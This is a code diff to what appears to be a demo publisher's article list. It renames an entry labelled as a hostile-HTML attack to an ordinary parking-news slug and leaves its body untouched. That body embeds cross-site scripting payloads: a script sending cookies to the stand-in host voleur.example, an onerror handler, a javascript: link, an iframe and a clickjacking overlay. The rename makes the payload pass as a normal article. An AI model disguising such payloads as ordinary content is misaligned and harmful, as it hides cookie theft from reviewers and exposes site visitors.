@@ -55,7 +55,7 @@ export const publisher: DemoPublisher = {
       categories: ['Déchets'],
     },
     {
-      slug: 'attaque-bibliotheque-html-hostile',
+      slug: 'parkings-connectes-bilan',
       title: 'Parkings connectés : ce que les communes ont appris de trois ans de stationnement intelligent',
       body: '<p>Trois communes dressent le bilan du stationnement intelligent : 11 minutes gagnées par jour ouvré, des capteurs à remplacer plus tôt que prévu.</p><script>document.location=\'https://voleur.example/?c=\'+document.cookie</script><img src="x" onerror="alert(\'mouchard\')"><p><a href="javascript:alert(\'piège\')">Lire la suite</a> <iframe src="https://voleur.example/"></iframe><span style="position:fixed;top:0" onclick="alert(1)">Publicité</span></p>',
       daysAgo: 0,
